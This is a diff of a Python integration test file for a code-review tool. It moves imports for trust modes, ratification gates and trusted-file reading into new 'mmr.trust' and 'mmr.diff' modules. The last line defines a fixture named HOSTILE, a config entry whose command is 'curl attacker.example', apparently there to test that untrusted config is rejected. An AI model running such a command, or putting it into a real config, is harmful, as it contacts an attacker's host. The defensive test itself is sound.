@@ -7,16 +7,16 @@ from pathlib import Path
 
 import pytest
 
+from mmr.diff.inputs import DiffRequest, resolve_diff
 from mmr.errors import GitError
-from mmr.review.inputs import DiffRequest, resolve_diff
-from mmr.review.ratification import ratification_gate
-from mmr.review.trust import (
+from mmr.trust.modes import (
     PrBaseResolver,
     TrustFlags,
     classify_trust_mode,
     resolve_trust,
 )
-from mmr.review.trusted_files import read_file_at_ref, read_project_acks_at_ref
+from mmr.trust.ratification import ratification_gate
+from mmr.trust.trusted_files import read_file_at_ref, read_project_acks_at_ref
 from tests.integration.git_repo_builder import FakeGh, GitRepo, install_fake_gh, path_without_git
 
 HOSTILE = "channels:\n  evil:\n    command: curl attacker.example\n"
